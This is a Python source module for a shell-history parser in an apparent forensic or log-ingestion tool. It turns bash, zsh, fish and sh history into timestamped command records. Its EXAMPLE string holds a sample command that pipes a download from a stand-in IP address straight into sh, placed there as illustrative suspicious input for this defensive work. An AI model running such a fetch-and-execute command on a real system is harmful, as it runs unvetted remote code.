"""Shell history files: bash, zsh, fish and plain ``sh``/``ash`` history.

Variants read (one Record per command):

* bash with timestamps (``HISTTIMEFORMAT`` set): a ``#<epoch>`` line before each command.
  As bash itself does (readline ``histfile.c``), when the file starts with a timestamp line,
  lines that follow a command without a new timestamp belong to that command (multi-line
  commands saved with ``lithist``) and are joined with newlines. A timestamp applies to the
  command right after it.
* plain bash/sh/ash history: one command per line, no time.
* zsh ``EXTENDED_HISTORY``: ``: 1700000000:0;command`` (start epoch, duration in seconds);
  a line ending in ``\\`` continues on the next line (zsh's escaped newline). zsh's
  "metafied" bytes (0x83 followed by the byte XOR 0x20) are restored in zsh files.
* fish (``fish_history``): ``- cmd: …`` / ``  when: <epoch>`` / ``  paths:`` blocks.

Native fields: ``command``, ``timestamp`` (epoch seconds, when known), ``duration`` (zsh),
``paths`` (fish), ``shell`` (from the format or the file name). The normalised view has
``operation`` = ``command``, ``category`` = ``process``, ``process_cmdline`` and, when the
path follows the ``/home/<user>/`` or ``/root/`` convention, ``actor_user``.

Plain history is just lines of text, so the sniffer claims it only by file name
(``.bash_history``, ``.zsh_history``, ``.histfile``, ``…_history``, ``.history``); content
with ``#<epoch>`` or ``: <epoch>:<n>;`` markers, or fish blocks, is claimed on its own. Blank
lines and timestamp lines are not records; lines holding NUL bytes (the tail of a history
file cut by a crash) are rejected.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import IO, Any, ClassVar

from trailguard.ingest.base import (
    PARSERS,
    ParseContext,
    Record,
    Rejected,
    SourceParser,
    decode,
    iter_lines,
    too_long,
)
from trailguard.ingest.timeparse import from_epoch

_BASH_TIME = re.compile(r"#(\d{9,10})\s*$")
_ZSH_ENTRY = re.compile(r": *(\d{9,10}):(\d+);(.*)$", re.DOTALL)
_FISH_CMD = re.compile(r"- cmd: ?(.*)$", re.DOTALL)
_FISH_WHEN = re.compile(r"  when: *(\d+)\s*$")
_FISH_PATHS = re.compile(r"  paths:\s*$")
_FISH_PATH = re.compile(r"    - (.*)$")
_SNIFF_BASH = re.compile(rb"^#\d{9,10}\r?$", re.MULTILINE)
_SNIFF_ZSH = re.compile(rb"^: *\d{9,10}:\d+;", re.MULTILINE)
_SNIFF_FISH = re.compile(rb"\A- cmd: .*\n  when: \d+", re.MULTILINE)
_HOME = re.compile(r"(?:^|/)(?:home|Users)/([^/]+)/|(?:^|/)root/")
_NAME_SHELLS = (
    (re.compile(r"^\.?(?:zsh_history|histfile|zhistory)$"), "zsh"),
    (re.compile(r"^fish_history$"), "fish"),
    (re.compile(r"^\.?bash_history$"), "bash"),
    (re.compile(r"^\.?ash_history$"), "ash"),
    (re.compile(r"^\.?(?:sh|ksh|mksh)_history$"), "sh"),
    (re.compile(r"^\.?(?:\w+_history|history)$"), None),
)
#: Lines a single command may span before it is cut (bash multi-line entries).
MAX_COMMAND_LINES = 10000


@dataclass(slots=True)
class _Entry:
    position: int
    lines: list[str] = field(default_factory=list)
    timestamp: int | None = None
    duration: int | None = None
    shell_name: str | None = None
    paths: list[str] = field(default_factory=list)
    continues: bool = False  # zsh: the last line ended in a backslash
    raw: list[str] = field(default_factory=list)  # the lines as read


def history_name(name: str) -> tuple[bool, str | None]:
    """Whether ``name`` is a history file name, and the shell it implies."""
    base = name.replace("\\", "/").rsplit("/", 1)[-1].lower()
    for pattern, shell in _NAME_SHELLS:
        if pattern.match(base):
            return True, shell
    return False, None


@PARSERS.register("shell_history")
class ShellHistoryParser(SourceParser):
    NAME: ClassVar[str] = "shell_history"
    TITLE: ClassVar[str] = (
        "Shell history: bash (with #epoch timestamps or plain), zsh extended history, fish, "
        "sh/ash (plain history is recognised by its file name)"
    )
    EXAMPLE: ClassVar[str] = "#1700000000\nsudo -i\n#1700000042\ncurl -s http://203.0.113.9/x | sh"

    @classmethod
    def sniff(cls, head: bytes, name: str) -> int:
        if not head.strip() or b"\x00" in head[:4096]:
            return 0
        lines = [line for line in head.split(b"\n")[:400] if line.strip()]
        if len(head) >= 65536 and len(lines) > 1:
            lines = lines[:-1]
        if not lines:
            return 0
        named, _ = history_name(name)
        if _SNIFF_FISH.match(head):
            return 90
        zsh = sum(1 for line in lines if _SNIFF_ZSH.match(line))
        if zsh / len(lines) >= 0.5:
            return 90
        markers = sum(1 for line in lines if _SNIFF_BASH.match(line))
        if markers and _alternates(lines) and markers / len(lines) >= 0.25:
            return 90 if named else 85
        if named and _looks_like_text(lines):
            return 60
        return 0

    def parse(self, stream: IO[bytes], ctx: ParseContext) -> Iterator[Record | Rejected]:
        _, name_shell = history_name(ctx.name)
        reader = _Reader(name_shell, _user_from_path(ctx.path))
        for number, line in iter_lines(stream):
            if line is None:
                yield from reader.flush()
                yield too_long(number)
                continue
            yield from reader.add(number, line)
        yield from reader.flush()


def _alternates(lines: list[bytes]) -> bool:
    """Most ``#epoch`` lines are followed by a command line (not by another marker)."""
    followed = sum(1 for index, line in enumerate(lines[:-1])
                   if _SNIFF_BASH.match(line) and not _SNIFF_BASH.match(lines[index + 1]))
    markers = sum(1 for line in lines[:-1] if _SNIFF_BASH.match(line))
    return markers > 0 and followed / markers >= 0.8


def _looks_like_text(lines: list[bytes]) -> bool:
    """Lines of printable text of command-like length."""
    for line in lines[:100]:
        if len(line) > 8192:
            return False
        text = line.decode("utf-8", errors="replace")
        controls = sum(1 for char in text if ord(char) < 32 and char not in "\t\r\x1b")
        if controls or text.count("\ufffd") > 2:
            return False
    return True


def _user_from_path(path: str) -> str | None:
    match = _HOME.search(path.replace("\\", "/"))
    if not match:
        return None
    return match[1] or "root"


def _unmetafy(line: bytes) -> bytes:
    """Undo zsh's metafication: 0x83 followed by (byte XOR 0x20)."""
    if b"\x83" not in line:
        return line
    out = bytearray()
    meta = False
    for byte in line:
        if meta:
            out.append(byte ^ 0x20)
            meta = False
        elif byte == 0x83:
            meta = True
        else:
            out.append(byte)
    return bytes(out)


class _Reader:
    """Turns history lines into commands, holding at most one command being assembled."""

    def __init__(self, name_shell: str | None, user: str | None) -> None:
        self.name_shell = name_shell
        self.user = user
        self.mode: str | None = None  # "fish", "joined" (bash, starts with #epoch) or "lines"
        self.pending: _Entry | None = None
        self.pending_time: int | None = None
        self.marker_line = ""
        self.fish_in_paths = False
        self.zsh = name_shell == "zsh"

    def add(self, number: int, line: bytes) -> Iterator[Record | Rejected]:
        if b"\x00" in line:
            yield from self.flush()
            yield Rejected(number, "line holds NUL bytes (corrupt or cut history file)", line)
            return
        if not self.zsh and _SNIFF_ZSH.match(line):
            self.zsh = True
        text = decode(_unmetafy(line) if self.zsh else line)
        pending = self.pending
        if pending is not None and pending.continues:
            pending.lines[-1] = pending.lines[-1][:-1]
            pending.lines.append(text)
            pending.raw.append(text)
            pending.continues = text.endswith("\\") and len(pending.lines) < MAX_COMMAND_LINES
            return
        if not text.strip():
            return
        if self.mode is None:
            self.mode = ("fish" if _FISH_CMD.match(text)
                         else "joined" if _BASH_TIME.match(text) else "lines")
        if self.mode == "fish":
            yield from self._fish(number, text)
            return
        zsh = _ZSH_ENTRY.match(text)
        if zsh:
            yield from self.flush()
            command = zsh[3]
            self.pending = _Entry(number, [command], int(zsh[1]), int(zsh[2]), "zsh",
                                  continues=command.endswith("\\"), raw=[text])
            return
        marker = _BASH_TIME.match(text)
        if marker:
            yield from self.flush()
            self.pending_time = int(marker[1])
            self.marker_line = text
            return
        if self.pending_time is not None:
            yield from self.flush()
            self.pending = _Entry(number, [text], self.pending_time,
                                  shell_name=self.name_shell or "bash",
                                  raw=[self.marker_line, text])
            self.pending_time = None
            return
        if self.mode == "joined" and pending is not None and pending.shell_name != "zsh" \
                and len(pending.lines) < MAX_COMMAND_LINES:
            pending.lines.append(text)
            pending.raw.append(text)
            return
        yield from self.flush()
        self.pending = _Entry(number, [text], shell_name=self.name_shell,
                              continues=self.zsh and text.endswith("\\"), raw=[text])

    def _fish(self, number: int, text: str) -> Iterator[Record | Rejected]:
        command = _FISH_CMD.match(text)
        if command:
            yield from self.flush()
            self.pending = _Entry(number, [_fish_unescape(command[1])], shell_name="fish",
                                  raw=[text])
            self.fish_in_paths = False
            return
        pending = self.pending
        when = _FISH_WHEN.match(text)
        if when and pending is not None:
            pending.timestamp = int(when[1])
            pending.raw.append(text)
            return
        if _FISH_PATHS.match(text) and pending is not None:
            self.fish_in_paths = True
            pending.raw.append(text)
            return
        path = _FISH_PATH.match(text)
        if path and pending is not None and self.fish_in_paths:
            pending.paths.append(_fish_unescape(path[1]))
            pending.raw.append(text)
            return
        yield Rejected(number, "not a fish history line (expected '- cmd:', 'when:', 'paths:')",
                       text)

    def flush(self) -> Iterator[Record]:
        entry = self.pending
        self.pending = None
        if entry is None:
            return
        command = "\n".join(entry.lines)
        data: dict[str, Any] = {"command": command}
        if entry.timestamp is not None:
            data["timestamp"] = entry.timestamp
        if entry.duration is not None:
            data["duration"] = entry.duration
        if entry.paths:
            data["paths"] = entry.paths
        if entry.shell_name:
            data["shell"] = entry.shell_name
        normal: dict[str, Any] = {
            "operation": "command",
            "category": "process",
            "process_cmdline": command,
            "actor_user": self.user,
        }
        yield Record(position=entry.position, data=data, raw="\n".join(entry.raw),
                     time=from_epoch(entry.timestamp) if entry.timestamp is not None else None,
                     normal=normal)


def _fish_unescape(text: str) -> str:
    out: list[str] = []
    index = 0
    while index < len(text):
        char = text[index]
        if char == "\\" and index + 1 < len(text):
            following = text[index + 1]
            out.append("\n" if following == "n" else following)
            index += 2
            continue
        out.append(char)
        index += 1
    return "".join(out)
